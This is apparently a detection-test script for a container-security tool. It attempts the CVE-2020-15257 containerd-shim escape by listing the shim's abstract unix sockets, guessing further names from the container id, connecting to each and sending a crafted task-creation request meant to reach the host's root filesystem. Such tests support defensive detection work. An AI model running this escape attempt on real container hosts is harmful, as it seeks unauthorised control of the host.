# category: container-escape
# technique: T1611
# art: no
# expect: container-runtime-socket
# image: debian
# desc: CVE-2020-15257 (containerd-shim's abstract unix socket): a container looks in /proc/net/unix for containerd-shim's abstract sockets and connects to them (and to the names derived from its own container id) to ask the shim for a new task with the host's /; without hostNetwork the abstract names are not in its network namespace and every connect is refused
python3 - <<'PY'
import re, socket
names = [l.split()[-1] for l in open("/proc/net/unix") if "@/containerd-shim" in l]
print("shim sockets listed:", names)
cid = (re.findall(r"[0-9a-f]{64}", open("/proc/self/cgroup").read()) or ["0" * 64])[-1]
for ns in ("moby", "k8s.io", "default"):
    names.append(f"@/containerd-shim/{ns}/{cid}/shim.sock")
for n in names:
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.connect("\0" + n[1:])
        s.sendall(b"\0\0\0\x20\0\0\0\x01\x01\0" + b"containerd.task.v2.Task/Create")
        print(n, "connected, asked for a task:", s.recv(64))
    except OSError as e:
        print(n, e.strerror)
PY
